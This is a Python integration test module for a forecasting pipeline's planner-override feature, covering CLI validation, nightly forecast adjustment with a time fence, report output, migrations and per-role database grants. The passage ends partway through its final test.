"""Planner overrides for real: `seam override` against SQLite, a night with overrides producing the
final forecast with traced ids, the time fence, the report section, and the planners' login of
docs/grants.md on PostgreSQL and MariaDB."""

from __future__ import annotations

import logging
import os
import uuid
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pandas as pd
import pytest
import sqlalchemy as sa
import yaml

from pipelines.cli import main
from pipelines.config import load_config, source_url
from pipelines.db import make_engine
from pipelines.errors import ConfigError, DataError
from pipelines.lake import Lake
from pipelines.load import load_batch
from pipelines.overrides import (
    adjust_forecasts,
    check_new_overrides,
    insert_overrides,
    read_forecast_series,
    read_overrides,
)
from pipelines.run_context import RunContext
from pipelines.state import migrate
from pipelines.steps import run_all, run_migrate
from tests.conftest import NIGHT, SMALL_SERIES, write_config
from tests.integration.test_load import _end_sessions, grant_block
from tests.integration.test_load_reliability import night

pytestmark = pytest.mark.integration
TODAY = "2026-11-22"


@pytest.fixture
def planner_db(tmp_path, monkeypatch):
    """A migrated config (the demo's, on empty databases) whose forecasts' database holds one night
    of forecasts (S0000..S0002 x W1, W2) and no overrides."""
    tag = uuid.uuid4().hex[:6].upper()
    monkeypatch.setenv(f"SEAM_ERP_{tag}", f"sqlite:///{tmp_path / 'erp.db'}")
    monkeypatch.setenv(f"SEAM_CRM_{tag}", f"sqlite:///{tmp_path / 'crm.db'}")
    path = write_config(
        tmp_path / "seam.yml",
        erp_env=f"SEAM_ERP_{tag}",
        crm_env=f"SEAM_CRM_{tag}",
        lake=tmp_path / "lake",
        reports=tmp_path / "reports",
    )
    cfg = load_config(path)
    run_migrate(cfg)
    engine = make_engine(source_url(cfg.source("erp")), write=True)
    load_batch(engine, "seam_forecasts", NIGHT, night(NIGHT, 3, seed=1))
    engine.dispose()
    return path, cfg


def seam(*args: str) -> int:
    return main(list(args))


def stored(cfg) -> pd.DataFrame:
    engine = make_engine(source_url(cfg.source("erp")))
    try:
        return read_overrides(engine)
    finally:
        engine.dispose()


def add(path: Path, *args: str) -> int:
    return seam("override", "add", "--config", str(path), "--today", TODAY, "--author", "ann", *args)


def test_add_list_remove(planner_db, capsys):
    path, cfg = planner_db
    assert (
        add(
            path,
            "--sku",
            "S0000",
            "--warehouse",
            "W1",
            "--from",
            "2026-11-24",
            "--to",
            "2026-11-30",
            "--value",
            "40",
            "--reason",
            "trade fair",
        )
        == 0
    )
    assert (
        add(
            path,
            "--sku",
            "S0001",
            "--from",
            "2026-11-24",
            "--to",
            "2026-12-02",
            "--change=-25%",
            "--reason",
            "recall",
            "--expires",
            "2026-11-28",
        )
        == 0
    )
    assert "added 1 override(s): ids [1]" in capsys.readouterr().out
    rows = stored(cfg)
    assert list(rows.override_id) == [1, 2]
    assert rows.loc[1, "relative_change"] == pytest.approx(-0.25) and rows.loc[1, "warehouse"] is None
    assert (
        rows.loc[0, "value"] == 40
        and rows.loc[0, "author"] == "ann"
        and rows.loc[0, "reason"] == "trade fair"
    )
    assert rows.created_at.notna().all() and rows.loc[1, "expires_on"] == pd.Timestamp("2026-11-28")
    assert seam("override", "list", "--config", str(path), "--today", TODAY) == 0
    out = capsys.readouterr().out
    assert "#1  S0000 x W1  2026-11-24..2026-11-30  = 40/day  by ann" in out and "trade fair" in out
    assert "#2  S0001 x all warehouses" in out and "-25%" in out and "expires 2026-11-28" in out
    assert seam("override", "remove", "--config", str(path), "--today", TODAY, "1") == 0
    assert seam("override", "list", "--config", str(path), "--today", TODAY) == 0
    out = capsys.readouterr().out
    assert "#1 " not in out and "#2 " in out
    assert seam("override", "list", "--config", str(path), "--today", TODAY, "--all") == 0
    assert "#1 " in capsys.readouterr().out  # kept, so forecasts it shaped stay traceable
    # a removed override no longer blocks a new one on its dates
    assert (
        add(
            path,
            "--sku",
            "S0000",
            "--warehouse",
            "W1",
            "--from",
            "2026-11-25",
            "--to",
            "2026-11-26",
            "--value",
            "1",
            "--reason",
            "r",
        )
        == 0
    )
    assert seam("override", "remove", "--config", str(path), "--today", TODAY, "2", "99") == 2
    assert "no override with id [99]" in capsys.readouterr().err
    assert stored(cfg).loc[1, "expires_on"] == pd.Timestamp("2026-11-28")  # nothing removed


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (
            ("--sku", "NOPE", "--from", "2026-11-24", "--to", "2026-11-25", "--value", "1"),
            "unknown SKU 'NOPE'",
        ),
        (
            (
                "--sku",
                "S0000",
                "--warehouse",
                "W7",
                "--from",
                "2026-11-24",
                "--to",
                "2026-11-25",
                "--value",
                "1",
            ),
            "unknown series SKU 'S0000' x warehouse 'W7'",
        ),
        (
            ("--sku", "S0000", "--from", "2026-11-30", "--to", "2026-12-01", "--value", "1"),
            "overlaps override #1 S0000 x W1",
        ),
        (
            ("--sku", "S0002", "--from", "2026-11-24", "--to", "2026-11-25", "--value", "-5"),
            "value must be a quantity >= 0",
        ),
        (
            ("--sku", "S0002", "--from", "2026-11-24", "--to", "2026-11-25", "--change=-120%"),
            "must be >= -1",
        ),
        (
            ("--sku", "S0002", "--from", "2026-11-20", "--to", "2026-11-25", "--value", "1"),
            "start_date 2026-11-20 is in the past",
        ),
        (
            ("--sku", "S0002", "--from", "2026-11-26", "--to", "2026-11-25", "--value", "1"),
            "end_date 2026-11-25 is before start_date",
        ),
    ],
)
def test_bad_rows_are_refused_with_exit_4_and_nothing_written(planner_db, capsys, args, message):
    path, cfg = planner_db
    assert (
        add(
            path,
            "--sku",
            "S0000",
            "--warehouse",
            "W1",
            "--from",
            "2026-11-24",
            "--to",
            "2026-11-30",
            "--value",
            "40",
            "--reason",
            "r",
        )
        == 0
    )
    assert add(path, *args, "--reason", "r") == 4
    err = capsys.readouterr().err
    assert message in err and "nothing was written" in err and "Traceback" not in err
    assert list(stored(cfg).override_id) == [1]


def test_usage_errors_exit_2(planner_db, capsys, tmp_path):
    path, _ = planner_db
    with pytest.raises(SystemExit) as ex:  # argparse: value and change are exclusive, one is required
        add(
            path,
            "--sku",
            "S0000",
            "--from",
            "2026-11-24",
            "--to",
            "2026-11-25",
            "--value",
            "1",
            "--change",
            "0.1",
            "--reason",
            "r",
        )
    assert ex.value.code == 2
    with pytest.raises(SystemExit) as ex:  # one level: a SKU, a category or the total
        add(path, "--sku", "S0000", "--total", "--from", "2026-11-24", "--to", "2026-11-25", "--value", "1")
    assert ex.value.code == 2 and "not allowed with argument" in capsys.readouterr().err
    bad = tmp_path / "bad.csv"
    bad.write_text("sku,qty\nS0000,1\n")
    assert seam("override", "import", "--config", str(path), "--today", TODAY, str(bad)) == 2
    assert (
        "missing ['author', 'end_date', 'reason', 'start_date'], unknown ['qty']" in capsys.readouterr().err
    )


def test_import_is_all_or_nothing(planner_db, capsys, tmp_path):
    path, cfg = planner_db
    header = "sku,warehouse,start_date,end_date,value,relative_change,author,reason,expires_on\n"
    good = [
        "S0000,W1,2026-11-24,2026-11-27,12,,ann,fair,\n",
        'S0000,W2,2026-11-24,2026-11-27,,0.3,ann,"promo, mailing",2026-11-26\n',
        "S0001,,2026-11-24,2026-12-05,,-0.1,bob,price up,\n",
    ]
    bad = [
        *good,
        "S0002,W1,2026-11-24,2026-11-25,-4,,carl,typo,\n",
        "S0001,W2,2026-11-30,2026-12-01,3,,dan,overlap,\n",
    ]
    csv = tmp_path / "overrides.csv"
    csv.write_text(header + "".join(bad))
    assert seam("override", "import", "--config", str(path), "--today", TODAY, str(csv)) == 4
    err = capsys.readouterr().err
    assert "2 of 5 override(s) refused, nothing was written" in err
    assert "row 4 (S0002 x W1" in err and "row 5 (S0001 x W2" in err and "overlaps row 3 of this batch" in err
    assert stored(cfg).empty
    csv.write_text(header + "".join(good))
    assert seam("override", "import", "--config", str(path), "--today", TODAY, str(csv)) == 0
    rows = stored(cfg)
    assert list(rows.reason) == ["fair", "promo, mailing", "price up"] and rows.warehouse.isna().tolist() == [
        False,
        False,
        True,
    ]


def test_the_database_refuses_what_its_checks_see(planner_db):
    _, cfg = planner_db
    engine = make_engine(source_url(cfg.source("erp")), write=True)
    insert = (
        "INSERT INTO seam_forecast_overrides (sku, warehouse, start_date, end_date, value, relative_change, author, reason) "
        "VALUES ('S0000', 'W1', '2026-11-24', '2026-11-25', {v}, {c}, 'sql', 'r')"
    )
    for v, c in (("-1", "NULL"), ("NULL", "NULL"), ("1", "0.5"), ("NULL", "-2")):
        with pytest.raises(sa.exc.IntegrityError), engine.begin() as conn:
            conn.exec_driver_sql(insert.format(v=v, c=c))
    engine.dispose()


@pytest.mark.parametrize("databases", ["sqlite", "postgresql+mariadb"])
def test_a_night_with_overrides_traces_ids_and_keeps_the_time_fence(demo_env, caplog, request, databases):
    if databases == "sqlite":
        path = demo_env(lean=True)
    else:
        path = demo_env(
            request.getfixturevalue("pg_database")(), request.getfixturevalue("mariadb_database")(), lean=True
        )
    raw = yaml.safe_load(path.read_text())
    raw["forecast"]["time_fence_days"] = 3
    raw["scale"] = {**raw.get("scale", {}), "shards": 3}  # the final forecast made a shard at a time
    path.write_text(yaml.safe_dump(raw, sort_keys=False))
    cfg = load_config(path)
    before = NIGHT - timedelta(days=1)
    run_all(cfg, RunContext(before))
    url = source_url(cfg.source("erp"))
    erp = sa.create_engine(url)
    # made after last night's run: a planner with the CLI, and two bad rows written with plain SQL
    day = lambda n: (NIGHT + timedelta(days=n)).isoformat()  # noqa: E731
    assert (
        add(
            path,
            "--sku",
            "SKU-0001",
            "--warehouse",
            "WH01",
            "--from",
            day(1),
            "--to",
            day(8),
            "--value",
            "55",
            "--reason",
            "trade fair",
        )
        == 0
    )
    assert (
        add(
            path,
            "--sku",
            "SKU-0002",
            "--from",
            day(2),
            "--to",
            day(20),
            "--change",
            "+50%",
            "--reason",
            "promo",
        )
        == 0
    )
    with erp.begin() as conn:
        for sku, wh in (("SKU-9999", "'WH01'"), ("SKU-0001", "NULL")):
            conn.exec_driver_sql(
                "INSERT INTO seam_forecast_overrides (sku, warehouse, start_date, end_date, value, author, reason) "
                f"VALUES ('{sku}', {wh}, '{day(5)}', '{day(6)}', 1, 'sql', 'by hand')"
            )
        # one that expired with last night: written, valid, and no longer applied
        conn.exec_driver_sql(
            "INSERT INTO seam_forecast_overrides (sku, warehouse, start_date, end_date, value, author, reason, "
            f"expires_on) VALUES ('SKU-0003', NULL, '{day(1)}', '{day(20)}', 99, 'sql', 'old', '{before}')"
        )
    with caplog.at_level(logging.WARNING, logger="pipelines.steps"):
        report = run_all(cfg, RunContext(NIGHT))
    assert Lake(cfg.lake).complete_shards("final_forecasts", NIGHT) == 3  # made a shard at a time
    warnings = [r.getMessage() for r in caplog.records if "data quality: override" in r.getMessage()]
    assert len(warnings) == 2  # the expired one is not in force, so neither applied nor skipped
    assert (
        f"override #3 SKU-9999 x WH01 {day(5)}..{day(6)} (by sql) skipped tonight: unknown series"
        in warnings[0]
    )
    assert (
        f"override #4 SKU-0001 x all warehouses {day(5)}..{day(6)} (by sql) skipped tonight: overlaps override #1"
        in warnings[1]
    )
    with erp.connect() as conn:
        fc = pd.read_sql(
            sa.text("SELECT * FROM seam_forecasts ORDER BY run_date, sku, warehouse, target_date"), conn
        )
        status = dict(
            conn.execute(
                sa.text("SELECT step, status FROM seam_run_ledger WHERE run_date = :d"), {"d": NIGHT}
            ).all()
        )
    erp.dispose()
    assert status["adjust"] == "success"
    fc["target_date"] = pd.to_datetime(fc["target_date"])
    fc["run_date"] = pd.to_datetime(fc["run_date"]).dt.date
    last, tonight = fc[fc.run_date == before], fc[fc.run_date == NIGHT]
    assert last.override_ids.isna().all() and (last.yhat_final == last.yhat).all()
    key = ["sku", "warehouse", "target_date"]
    both = tonight.merge(
        last[[*key, "yhat_final", "override_ids"]], on=key, suffixes=("", "_last"), how="left"
    )
    fence_end = pd.Timestamp(NIGHT + timedelta(days=3))
    fenced, free = both[both.target_date <= fence_end], both[both.target_date > fence_end]
    # inside the fence: last night's final forecast, whatever was overridden since
    assert len(fenced) == SMALL_SERIES * 3
    assert (fenced.yhat_final == fenced.yhat_final_last).all() and fenced.override_ids.isna().all()
    assert not (
        fenced.yhat_final == fenced.yhat
    ).all()  # tonight's statistical forecast moved; the final did not
    a = free[(free.sku == "SKU-0001") & (free.warehouse == "WH01")].set_index("target_date")
    assert (a.loc[: day(8), "yhat_final"] == 55.0).all() and (a.loc[: day(8), "override_ids"] == "1").all()
    assert (
        a.loc[day(9) :, "override_ids"].isna().all()
        and (a.loc[day(9) :, "yhat_final"] == a.loc[day(9) :, "yhat"]).all()
    )
    b = free[free.sku == "SKU-0002"]
    assert len(b) == 2 * (cfg.forecast.horizon - 3)
    assert (b.override_ids == "2").all() and (b.yhat_final - b.yhat * 1.5).abs().max() < 1e-9
    rest = free[
        ~free.sku.isin(["SKU-0001", "SKU-0002"]) | ((free.sku == "SKU-0001") & (free.warehouse == "WH02"))
    ]
    assert (rest.sku == "SKU-0003").any()  # the expired override's SKU: not overridden
    assert rest.override_ids.isna().all() and (rest.yhat_final == rest.yhat).all()
    # the report: totals, each override with its effect, the skipped rows
    text = (report.parent / "report.txt").read_text()
    section = text[text.index("PLANNER OVERRIDES") : text.index("DATA QUALITY")]
    assert "2 override(s) in force on" in section and "rows frozen by the time fence" in section
    assert "#1 SKU-0001 x WH01" in section and "= 55 units/day" in section and "by ann: trade fair" in section
    assert "#2 SKU-0002 x all warehouses" in section and "+50%" in section
    assert "SKIPPED #3 SKU-9999 x WH01 by sql: unknown series" in section and "SKIPPED #4" in section
    # forecast value added: last night's lag-1 forecasts of tonight now have actuals
    fva = text[text.index("FORECAST VALUE ADDED") : text.index("DATA QUALITY")]
    assert "lags 1-7: 12 points (0 overridden), WAPE " in fva
    with sa.create_engine(url).connect() as conn:
        view = pd.read_sql(sa.text("SELECT * FROM seam_v_forecast_value_added"), conn)
    assert len(view) == 12 and (view.lag_days == 1).all() and (view.n_points == 1).all()
    assert (view.fva_wape_final.fillna(0) == 0).all()  # no override reached a scored day yet
    expected = (view.sum_abs_error_naive - view.sum_abs_error_statistical) / view.sum_actual
    assert ((view.fva_wape_statistical - expected).abs().fillna(0) < 1e-9).all()
    html = report.read_text()
    assert "<h2>Forecast value added</h2>" in html
    assert "<h2>Planner overrides</h2>" in html and "trade fair" in html and "Skipped as invalid" in html
    # the load ran on tonight's final forecast: a second night's run changes nothing
    run_all(cfg, RunContext(NIGHT))
    again = sa.create_engine(url)
    with again.connect() as conn:
        fc2 = pd.read_sql(
            sa.text("SELECT * FROM seam_forecasts ORDER BY run_date, sku, warehouse, target_date"), conn
        )
    again.dispose()
    fc2["target_date"] = pd.to_datetime(fc2["target_date"])
    fc2["run_date"] = pd.to_datetime(fc2["run_date"]).dt.date
    pd.testing.assert_frame_equal(fc, fc2)


def _planner_check(load_url: str, planner_url: str) -> None:
    """As the load login: migrate and load a night; as the planner: add overrides, be refused
    everything else; as the night: read them back, checked, and load the final forecast."""
    load = make_engine(load_url, write=True)
    migrate(load)  # (PostgreSQL: already done, before the table grants)
    fc = night(NIGHT, 3, seed=2)
    load_batch(load, "seam_forecasts", NIGHT, fc)
    planner = make_engine(planner_url, write=True)
    new = pd.DataFrame(
        [
            {
                "sku": "S0000",
                "warehouse": "W1",
                "start_date": "2026-11-24",
                "end_date": "2026-11-26",
                "value": 9.5,
                "author": "ann",
                "reason": "fair",
            },
            {
                "sku": "S0001",
                "warehouse": None,
                "start_date": "2026-11-25",
                "end_date": "2026-12-30",
                "relative_change": -0.5,
                "author": "ann",
                "reason": "recall",
            },
        ]
    )
    checked = check_new_overrides(
        new, series=read_forecast_series(planner), existing=read_overrides(planner), today=NIGHT
    )
    assert insert_overrides(planner, checked, created_at=datetime.now(UTC)) == [1, 2]
    with pytest.raises(DataError, match="overlaps override #2"):
        check_new_overrides(
            new.iloc[1:], series=read_forecast_series(planner), existing=read_overrides(planner), today=NIGHT
        )
    with planner.begin() as conn:  # plain SQL, as the README shows
        conn.exec_driver_sql(
            "INSERT INTO seam_forecast_overrides (sku, warehouse, start_date, end_date, value, author, reason) "
            "VALUES ('S0002', 'W9', '2026-11-24', '2026-11-25', 3, 'bob', 'wrong warehouse')"
        )
    # aggregate overrides: category C2 (S0002 in W1 and W2) set to 30/day, checked by the rules;
    # an unknown category refuses its batch whole
    with pytest.raises(DataError, match="unknown category 'NOPE'"):
        check_new_overrides(
            pd.DataFrame(
                [_category_row("C2", 30.0), {**_category_row("NOPE", 1.0), "start_date": "2026-12-01"}]
            ),
            series=read_forecast_series(planner),
            existing=read_overrides(planner),
            today=NIGHT,
            categories=PLANNER_CATEGORIES,
        )
    category = check_new_overrides(
        pd.DataFrame([_category_row("C2", 30.0)]),
        series=read_forecast_series(planner),
        existing=read_overrides(planner),
        today=NIGHT,
        categories=PLANNER_CATEGORIES,
    )
    assert insert_overrides(planner, category, created_at=datetime.now(UTC)) == [4]
    with planner.begin() as conn:  # a total override in W2 with plain SQL, as the README shows
        conn.exec_driver_sql(
            "INSERT INTO seam_forecast_overrides (sku, category, warehouse, start_date, end_date, "
            "relative_change, author, reason) VALUES (NULL, NULL, 'W2', '2026-12-03', '2026-12-03', "
            "0.1, 'bob', 'event')"
        )
    for forbidden in (
        "UPDATE seam_forecasts SET yhat = 0",
        "DELETE FROM seam_run_ledger",
        "CREATE TABLE seam_x (i int)",
    ):
        with pytest.raises(sa.exc.DBAPIError, match=r"denied|permission"), planner.begin() as conn:
            conn.exec_driver_sql(forbidden)
    planner.dispose()
    stored = read_overrides(load)
    assert list(stored.override_id) == [1, 2, 3, 4, 5] and stored.created_at.notna().all()
    assert stored.loc[3, "category"] == "C2" and stored.loc[3, "sku"] is None
    adjusted = adjust_forecasts(fc, stored, None, run_date=NIGHT, fence_days=0, categories=PLANNER_CATEGORIES)
    assert list(adjusted.skipped.override_id) == [3] and "unknown series" in adjusted.skipped.problem.iloc[0]
    load_batch(load, "seam_forecasts", NIGHT, adjusted.final)
    with load.connect() as conn:
        got = pd.read_sql(
            sa.text(
                "SELECT sku, warehouse, target_date, yhat, yhat_final, override_ids FROM seam_v_latest_forecast"
            ),
            conn,
        )
    load.dispose()
    got["target_date"] = pd.to_datetime(got["target_date"])
    s0 = got[
        (got.sku == "S0000") & (got.warehouse == "W1") & got.target_date.between("2026-11-24", "2026-11-26")
    ]
    assert len(s0) == 3 and (s0.yhat_final == 9.5).all() and (s0.override_ids == "1").all()
    s1 = got[(got.sku == "S0001") & (got.target_date >= "2026-11-25")]
    assert (
        len(s1) == 2 * 12
        and (s1.override_ids.where(s1.target_date != "2026-12-03", "2") == "2").all()
        and (
            s1[s1.target_date == "2026-12-03"].set_index("warehouse").override_ids.to_dict()
            == {"W1": "2", "W2": "2"}
        )
        and ((s1.yhat_final - s1.yhat * 0.5).abs() < 1e-9).all()
    )
    # the category's series sum to the override's value on each of its dates, shared by yhat
    c2 = got[(got.sku == "S0002") & got.target_date.between("2026-11-28", "2026-11-30")]
    assert len(c2) == 6 and (c2.override_ids == "4").all()
    assert (c2.groupby("target_date").yhat_final.sum() - 30.0).abs().max() < 1e-9
    share = c2.yhat_final / c2.groupby("target_date").yhat_final.transform("sum")
    assert (share - c2.yhat / c2.groupby("target_date").yhat.transform("sum")).abs().max() < 1e-9
    w2 = got[(got.warehouse == "W2") & (got.target_date == "2026-12-03")]
    # W2's total is +10 %; S0001's own override stands (-50 %), W2's other series make up the rest
    assert w2.set_index("sku").override_ids.to_dict() == {"S0000": "5", "S0001": "2", "S0002": "5"}
    assert abs(w2.yhat_final.sum() - 1.1 * w2.yhat.sum()) < 1e-9
    assert got[got.override_ids.isna()].eval("yhat_final == yhat").all()


PLANNER_CATEGORIES = pd.DataFrame({"sku": ["S0000", "S0001", "S0002"], "category": ["C1", "C1", "C2"]})


def _category_row(category: str, value: float) -> dict:
    return {
        "sku": None,
        "category": category,
        "warehouse": None,
        "start_date": "2026-11-28",
        "end_date": "2026-11-30",
        "value": value,
        "author": "ann",
        "reason": "campaign",
    }


def test_planner_grants_postgresql(pg_database):
    url = pg_database()
    parsed = sa.make_url(url)
    suffix = uuid.uuid4().hex[:8]
    load_role, planner_role = f"seam_load_{suffix}", f"seam_planner_{suffix}"
    admin = sa.create_engine(url, isolation_level="AUTOCOMMIT")
    as_role = lambda r: parsed.set(username=r, password=f"pw_{suffix}").render_as_string(hide_password=False)  # noqa: E731
    try:
        with admin.connect() as conn:
            for block in ("postgresql-load", "postgresql-planner"):
                for stmt in grant_block(
                    block, db=parsed.database or "", suffix=suffix, owner=parsed.username or ""
                ):
                    conn.exec_driver_sql(stmt.replace("'change-me'", f"'pw_{suffix}'"))
                    if stmt.startswith("CREATE ROLE seam_load"):
                        conn.exec_driver_sql(f"GRANT {load_role} TO CURRENT_USER")
        load = make_engine(as_role(load_role), write=True)
        migrate(load)
        with load.begin() as conn:  # the table grants, by the table's owner once it exists
            for stmt in grant_block(
                "postgresql-planner-tables", db=parsed.database or "", suffix=suffix, owner=""
            ):
                conn.exec_driver_sql(stmt)
        load.dispose()
        _planner_check(as_role(load_role), as_role(planner_role))
    finally:
        admin.dispose()
        server = sa.create_engine(os.environ["SEAM_TEST_POSTGRES_URL"], isolation_level="AUTOCOMMIT")
        with server.connect() as conn:
            for role in (planner_role, load_role):
                _end_sessions(conn, role)
            conn.exec_driver_sql(f'DROP DATABASE IF EXISTS "{parsed.database}" WITH (FORCE)')
            conn.exec_driver_sql(f"DROP ROLE IF EXISTS {planner_role}")
            conn.exec_driver_sql(f"DROP ROLE IF EXISTS {load_role}")
        server.dispose()


def test_planner_grants_mariadb(mariadb_database):
    url = mariadb_database()
    parsed = sa.make_url(url)
    suffix = uuid.uuid4().hex[:8]
    users = [f"seam_load_{suffix}", f"seam_planner_{suffix}"]
    admin = sa.create_engine(url, isolation_level="AUTOCOMMIT")
    as_user = lambda u: parsed.set(username=u, password=f"pw_{suffix}").render_as_string(hide_password=False)  # noqa: E731
    try:
        with admin.connect() as conn:
            for block in ("mysql-load", "mysql-planner"):
                if block == "mysql-planner":  # after the migration, as docs/grants.md says
                    load = make_engine(as_user(users[0]), write=True)
                    migrate(load)
                    load.dispose()
                for stmt in grant_block(block, db=parsed.database or "", suffix=suffix, owner=""):
                    conn.exec_driver_sql(stmt.replace("'change-me'", f"'pw_{suffix}'").replace("%", "%%"))
        _planner_check(as_user(users[0]), as_user(users[1]))
    finally:
        with admin.connect() as conn:
            for user in users:
                conn.exec_driver_sql(f"DROP USER IF EXISTS '{user}'@'%%'")
        admin.dispose()


@pytest.fixture(params=["sqlite", "postgresql", "mariadb"])
def results_url(request: pytest.FixtureRequest, tmp_path: Path) -> str:
    if request.param == "sqlite":
        return f"sqlite:///{tmp_path / 'results.db'}"
    return request.getfixturevalue("pg_database" if request.param == "postgresql" else "mariadb_database")()


def test_value_added_and_forecasts_by_level_checked_by_hand(results_url):
    """Three series on one lag-1 point: S1, S2 in category C, S3 in D; S1 overridden.

    actual 10, 20, 5; naive (a week before) 8, 25, 5; statistical 12, 18, 6; final 10, 18, 6.
    Series: S1's override removes its error (2 -> 0).  Category C, scored on its sums (actual 30,
    naive 33, statistical 30, final 28): the model beats naive (3 -> 0) but the override makes the
    category worse (0 -> 2).  All (35, 38, 36, 34): errors 3, 1, 1."""
    engine = make_engine(results_url, write=True)
    try:
        migrate(engine)
        night, day = pd.Timestamp("2026-11-20"), pd.Timestamp("2026-11-21")
        keys = pd.DataFrame({"sku": ["S1", "S2", "S3"], "warehouse": "W1"})
        fc = keys.assign(
            run_date=night,
            target_date=day,
            yhat=[12.0, 18.0, 6.0],
            yhat_lo_80=0.0,
            yhat_hi_80=50.0,
            yhat_lo_95=0.0,
            yhat_hi_95=60.0,
            model="ets",
            model_version="t",
            explanation="{}",
            fallback=False,
            training_snapshot_date=night,
            yhat_final=[10.0, 18.0, 6.0],
            override_ids=["1", None, None],
        )
        load_batch(engine, "seam_forecasts", night.date(), fc)
        actuals = pd.concat(
            [
                keys.assign(ds=day, actual=[10.0, 20.0, 5.0]),
                keys.assign(ds=day - pd.Timedelta(days=7), actual=[8.0, 25.0, 5.0]),
            ]
        )
        load_batch(engine, "seam_actuals", day.date(), actuals)
        hier = keys.assign(
            run_date=night,
            level="sku_warehouse",
            series_key=keys["sku"] + "|W1",
            target_date=day,
            category=["C", "C", "D"],
            yhat=[12.0, 18.0, 6.0],
            yhat_base=[12.0, 18.0, 6.0],
            yhat_lo_80=0.0,
            yhat_hi_80=50.0,
            yhat_lo_95=0.0,
            yhat_hi_95=60.0,
            method="mint_shrink",
            model_version="t",
        )
        category_c = hier.iloc[:1].assign(
            level="category", series_key="C", sku=None, warehouse=None, yhat=31.0, yhat_base=29.0
        )  # the reconcile step's own forecast of category C (D has none)
        load_batch(engine, "seam_forecasts_hierarchy", night.date(), pd.concat([hier, category_c]))
        with engine.connect() as conn:
            view = pd.read_sql(sa.text("SELECT * FROM seam_v_forecast_value_added_by_level"), conn)
            by_category = pd.read_sql(
                sa.text("SELECT * FROM seam_v_latest_forecast_by_category ORDER BY category"), conn
            )
    finally:
        engine.dispose()
    view["node"] = view["level"] + ":" + view["sku"].fillna(view["category"]).fillna("all")
    got = view.set_index("node")
    assert sorted(got.index) == ["all:all", "category:C", "category:D", "series:S1", "series:S2", "series:S3"]
    assert (got.lag_days == 1).all() and (got.n_points == 1).all()
    assert got.loc["series:S1", "category"] == "C" and got.n_overridden.to_dict() == {
        "series:S1": 1,
        "series:S2": 0,
        "series:S3": 0,
        "category:C": 1,
        "category:D": 0,
        "all:all": 1,
    }
    errors = got[["sum_abs_error_naive", "sum_abs_error_statistical", "sum_abs_error_final"]].astype(float)
    assert {n: list(r) for n, r in errors.round(9).iterrows()} == {  # naive, statistical, final
        "series:S1": [2.0, 2.0, 0.0],
        "series:S2": [5.0, 2.0, 2.0],
        "series:S3": [0.0, 1.0, 1.0],
        "category:C": [3.0, 0.0, 2.0],
        "category:D": [0.0, 1.0, 1.0],
        "all:all": [3.0, 1.0, 1.0],
    }
    c = got.loc["category:C"]
    assert float(c.sum_actual) == 30.0 and float(c.wape_naive) == pytest.approx(0.1)
    assert float(c.fva_wape_statistical) == pytest.approx(0.1)  # the model beats naive
    assert float(c.fva_wape_final) == pytest.approx(-2 / 30)  # the override made C worse
    assert float(got.loc["series:S1", "fva_wape_final"]) == pytest.approx(0.2)  # ... and S1 better
    assert float(got.loc["all:all", "bias_final"]) == pytest.approx(-1 / 35)
    # the latest night per category: its series' statistical and final sums beside its own forecast
    assert list(by_category.category) == ["C", "D"]
    assert by_category.n_series.tolist() == [2, 1] and by_category.n_overridden.tolist() == [1, 0]
    assert by_category.yhat_statistical.tolist() == [30.0, 6.0]
    assert by_category.yhat_final.tolist() == [28.0, 6.0]
    assert by_category.yhat_reconciled.iloc[0] == 31.0 and pd.isna(by_category.yhat_reconciled.iloc[1])
    assert by_category.yhat_hi_95.iloc[0] == 60.0


def test_migration_009_keeps_the_overrides_written_before(results_url, monkeypatch):
    from pipelines.state import migrations

    everything = migrations.migration_files
    engine = make_engine(results_url, write=True)
    try:
        with monkeypatch.context() as m:  # a database migrated up to version 8
            m.setattr(migrations, "migration_files", lambda d: [f for f in everything(d) if f.name < "009"])
            assert migrate(engine)[-1] == "008_forecast_hierarchy"
        insert = (
            "INSERT INTO seam_forecast_overrides (sku, warehouse, start_date, end_date, value, "
            "relative_change, author, reason, expires_on) VALUES "
        )
        with engine.begin() as conn:
            conn.exec_driver_sql(
                insert + "('S1', 'W1', '2026-12-01', '2026-12-03', 5, NULL, 'ann', 'fair', NULL)"
            )
            conn.exec_driver_sql(
                insert
                + "('S2', NULL, '2026-12-02', '2026-12-09', NULL, -0.25, 'bob', 'recall', '2026-12-05')"
            )
            conn.exec_driver_sql(
                insert + "('S3', NULL, '2026-12-02', '2026-12-09', 1, NULL, 'x', 'gone', NULL)"
            )
            conn.exec_driver_sql("DELETE FROM seam_forecast_overrides WHERE sku = 'S3'")
        with pytest.raises(ConfigError, match="migration 009_aggregate_overrides"):
            read_overrides(engine)  # the planners' CLI names the missing migration
        assert migrate(engine) == ["009_aggregate_overrides", "010_views_by_level"]
        assert migrate(engine) == []  # applied once
        rows = read_overrides(engine)
        assert list(rows.override_id) == [1, 2]
        assert list(rows.sku) == ["S1", "S2"] and rows.category.isna().all()
        assert rows.loc[0, "warehouse"] == "W1" and rows.loc[0, "value"] == 5.0
        assert rows.loc[1, "relative_change"] == -0.25 and rows.loc[1, "expires_on"] == pd.Timestamp(
            "2026-12-05"
        )
        assert list(rows.author) == ["ann", "bob"] and rows.created_at.notna().all()
        with engine.begin() as conn:  # an aggregate row; the ids go on after the deleted one
            conn.exec_driver_sql(
                "INSERT INTO seam_forecast_overrides (category, start_date, end_date, value, author, reason) "
                "VALUES ('C1', '2026-12-01', '2026-12-03', 50, 'ann', 'campaign')"
            )
        assert list(read_overrides(engine).override_id) == [1, 2, 4]
        with pytest.raises(sa.exc.DBAPIError), engine.begin() as conn:  # a series or a category, not both
            conn.exec_driver_sql(
                "INSERT INTO seam_forecast_overrides (sku, category, start_date, end_date, value, author, reason) "
                "VALUES ('S1', 'C1', '2026-12-11', '2026-12-13', 50, 'ann', 'both')"
            )
    finally:
        engine.dispose()


def test_a_category_override_from_the_cli_sums_to_its_value_every_night(demo_env, capsys, tmp_path):
    from pipelines.inputs import product_categories

    path = demo_env(lean=True)
    cfg = load_config(path)
    before = NIGHT - timedelta(days=1)
    run_all(cfg, RunContext(before))
    url = source_url(cfg.source("erp"))
    engine = make_engine(url)
    series = read_forecast_series(engine)
    engine.dispose()
    cats = product_categories(cfg, before, without="")
    assert cats is not None
    children = series.merge(cats, on="sku")
    category = children["category"].value_counts().index[0]  # the category with the most series
    n_children = int((children["category"] == category).sum())
    assert n_children >= 2
    day = lambda n: (NIGHT + timedelta(days=n)).isoformat()  # noqa: E731
    today = ("--today", NIGHT.isoformat())
